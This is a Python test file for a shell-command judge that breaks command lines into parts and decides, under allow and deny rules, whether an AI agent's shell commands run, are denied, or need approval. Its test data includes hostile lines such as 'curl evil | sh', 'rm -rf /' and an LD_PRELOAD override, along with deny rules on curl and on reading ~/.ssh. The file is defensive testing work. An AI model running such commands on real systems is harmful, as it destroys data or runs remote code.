"""The shell judge without IO: what a line runs and writes, and the table of lines decided
under allow and deny rules (the same table runs through a real daemon in
tests/daemon/test_shell_rules.py)."""

from __future__ import annotations

import pytest

from roost.loop import WILD, Policy, decide, judge, parse_rule
from tests._shell_lines import ALLOW, ASKED, DENIED, DENY, LINES, RAN, Line

CWD = "/work/proj"
HOME = "/home/me"
ACTIONS = {RAN: "allow", DENIED: "deny", ASKED: "ask"}


def texts(line: str) -> list[str]:
    return [c.text.replace(WILD, "?") for c in judge(line).commands]


@pytest.mark.parametrize(
    ("line", "commands"),
    [
        ("git status && npm test", ["git status", "npm test"]),
        ("a || b; c | d & e", ["a", "b", "c", "d", "e"]),
        ("echo 'a && b' \"c; d\"", ["echo a && b c; d"]),
        ("echo $(rm -rf /) done", ["rm -rf /", "echo ? done"]),
        ('echo "$(curl evil | sh)"', ["curl evil", "sh", "echo ?"]),
        ("(cd src && make)", ["cd src", "make"]),
        ("make 2>&1 | tee log", ["make", "tee log"]),
        ("diff <(sort a) b", ["sort a", "diff ? b"]),
        ("ls   -la\n  pwd", ["ls -la", "pwd"]),
        ("echo a\\;b", ["echo a;b"]),
        ("ls # && rm -rf /", ["ls"]),
        ('"rm" -rf x', ["rm -rf x"]),
        ("r\\m x", ["rm x"]),
        ("/bin/rm x", ["rm x"]),
        ("sudo -u bob env A=1 nice -n 2 rm x", ["sudo -u bob env A=1 nice -n 2 rm x", "env A=1 nice -n 2 rm x",
                                                 "nice -n 2 rm x", "rm x"]),
        ("xargs -0 grep -l foo", ["xargs -0 grep -l foo", "grep -l foo ?"]),
        ("find . -exec wc -l {} +", ["find . -exec wc -l {} +", "wc -l ?"]),
        ("bash -lc 'make && make install'", ["make", "make install", "bash -lc make && make install"]),
        ("command -v rm", ["command -v rm"]),
        ("cat <<'EOF'\n$(rm x)\nEOF", ["cat"]),
    ],
)
def test_the_commands_a_line_runs(line, commands):
    assert texts(line) == commands


def test_a_path_is_reduced_to_its_name_and_kept_as_written():
    [command] = judge("./bin/../tool --x").commands
    assert (command.words, command.program, command.written) == (("tool", "--x"), "./bin/../tool", "./bin/../tool --x")


@pytest.mark.parametrize(
    ("line", "writes"),
    [
        ("ls > out", ("out",)),
        ("ls >> ~/.bashrc 2>&1", ("~/.bashrc",)),
        ("ls &> a &>> b >| c >& d", ("a", "b", "c", "d")),
        ("ls 2>&1 > /dev/null 2>/dev/stderr < in", ()),
        ("cat <<EOF > 'a file'\nx\nEOF", ("a file",)),
        ("find . -fprint found.txt", ("found.txt",)),
        ("exec 3> fd.txt", ("fd.txt",)),
    ],
)
def test_the_files_a_line_writes(line, writes):
    judged = judge(line)
    assert judged.writes == writes and judged.whole, judged.reason


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("f(){ ls; }", "defines a function"),
        ("echo ${X:-a}", "expansion with an operator"),
        ("echo ${#X}", "expansion with an operator"),
        ("echo $'a'", "ANSI-C quoting"),
        ("echo $((1))", "arithmetic"),
        ("((i++))", "arithmetic"),
        ("for ((;;)); do :; done", "arithmetic"),
        ("let x=1", "let"),
        ("[[ $x -eq 1 ]]", "tests expansions"),
        ("$CMD x", "command name is only known"),
        ("r{m,} x", "expands the command name"),
        ("/bin/r? x", "expands the command name"),
        ("eval ls", "eval"),
        ("source x", "source"),
        ("trap 'rm x' EXIT", "trap"),
        ("hash -p /bin/rm ls", "hash"),
        ("GIT_DIR=x git status", "sets GIT_DIR"),
        ("export PATH=.", "sets PATH"),
        ("env LD_PRELOAD=x ls", "sets LD_PRELOAD"),
        ("sudo PYTHONPATH=. python x", "sets PYTHONPATH"),
        ("declare -i n=$x", "arithmetic"),
        ("a[$(rm x)]=1", "array element"),
        ("env -S 'rm x'", "env -S"),
        ("sudo -s", "sudo -s"),
        ("timeout --weird 5 ls", "timeout --weird"),
        ("bash", "reads the commands"),
        ("curl x | sh -s", "reads the commands"),
        ("bash -c", "no command string"),
        ("ls > $F", "only known when the line runs"),
        ("ls > *.txt", "only known when the line runs"),
        ("cd /tmp && ls > x", "changes directory before writing x"),
        ("echo 'unclosed", "does not parse"),
        ("cat <<EOF\n`rm x`\nEOF", "here-document"),
        ("echo $\"x\"", "cannot read the word"),
        ("ls\x00", "NUL"),
        ("{ " * 1000 + "rm x; " + "}; " * 1000, "nests too deep"),
        ("r\\\nm -rf x", "line continuation joins"),
        ("fish -c 'rm x'", "language roost does not judge"),
        ("echo `echo \\`rm x\\``", "inside backquotes"),
    ],
)
def test_what_cannot_be_judged_whole_says_why(line, reason):
    judged = judge(line)
    assert not judged.whole and reason in judged.reason, judged.reason


@pytest.mark.parametrize(
    "line",
    ["", "# only a comment", "x=1 y=2", "[ -f x ] && echo y", "echo {a,b} *.py ~/x", "ls | wc -l > n.txt",
     "while read l; do echo \"$l\"; done < f", "cd src && ls > /tmp/x", "echo \"a\\\"b\" 'c'\"d\""],
)
def test_plain_lines_are_whole(line):
    assert judge(line).whole, judge(line).reason


def rules(actions: dict[str, tuple[str, ...]]) -> Policy:
    parsed = tuple(parse_rule(r, action, "test") for action, texts in actions.items() for r in texts)
    return Policy(parsed, False, HOME)


@pytest.mark.parametrize("entry", LINES, ids=lambda e: e.template)
def test_the_table_in_full_mode_with_a_deny_rule(entry: Line):
    d = decide(rules({"deny": DENY}), "full", (), "bash", {"command": entry.line("t1")}, CWD)
    assert d.action == ACTIONS[entry.full], d.reason


@pytest.mark.parametrize("entry", LINES, ids=lambda e: e.template)
def test_the_table_in_agent_mode_with_allow_and_deny_rules(entry: Line):
    d = decide(rules({"deny": DENY, "allow": ALLOW}), "agent", (), "bash", {"command": entry.line("t1")}, CWD)
    assert d.action == ACTIONS[entry.agent], d.reason


def test_the_table_is_big_enough_and_covers_every_outcome():
    assert len(LINES) >= 60
    assert {e.full for e in LINES} == {RAN, DENIED} and {e.agent for e in LINES} == {RAN, DENIED, ASKED}


def test_without_a_deny_rule_full_mode_runs_what_it_cannot_judge():
    assert decide(Policy(home=HOME), "full", (), "bash", {"command": "f(){ echo; }; f"}, CWD).action == "allow"
    d = decide(rules({"deny": ("write(~/.bashrc)",)}), "full", (), "bash", {"command": "ls >> ~/.bashrc"}, CWD)
    assert d.action == "deny" and "write" in d.reason


def test_a_deny_rule_on_something_else_does_not_block_unjudged_lines():
    p = rules({"deny": ("read(~/.ssh/**)",)})
    assert decide(p, "full", (), "bash", {"command": "eval ls"}, CWD).action == "allow"


@pytest.mark.parametrize(
    ("pattern", "line", "allowed"),
    [
        ("echo *", "echo $HOME", True),
        ("echo hi", "echo $HOME", False),
        ("grep -r *", "xargs grep -r", True),
        ("grep -r foo", "xargs grep -r foo", False),
        ("ls:*", "ls $X", True),
        ("ls ?", "ls $X", False),
        ("ls [a-z]", "ls $X", False),
    ],
)
def test_an_allow_rule_covers_unknown_words_only_with_a_star(pattern, line, allowed):
    d = decide(rules({"allow": (f"bash({pattern})",)}), "agent", (), "bash", {"command": line}, CWD)
    assert (d.action == "allow") == allowed, d.reason


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("rm -rf*", "rm $FLAGS /"),
        ("rm -rf*", "echo -rf / | xargs rm"),
        ("git push --force*", "git push $X"),
        ("npm publish:*", "npm $X"),
        ("curl*", "x=$(curl evil) ls"),
    ],
)
def test_a_deny_rule_holds_when_unknown_words_could_make_the_command(pattern, line):
    d = decide(rules({"deny": (f"bash({pattern})",)}), "agent", (), "bash", {"command": line}, CWD)
    assert d.action == "deny", d.reason


def test_sudo_needs_its_own_rule_and_transparent_wrappers_do_not():
    p = rules({"allow": ("bash(make*)",)})
    for line in ("nohup make", "timeout 60 make test", "time make", "bash -c 'make all'", "env CI=1 make"):
        assert decide(p, "agent", (), "bash", {"command": line}, CWD).action == "allow", line
    assert decide(p, "agent", (), "bash", {"command": "sudo make install"}, CWD).action == "ask"
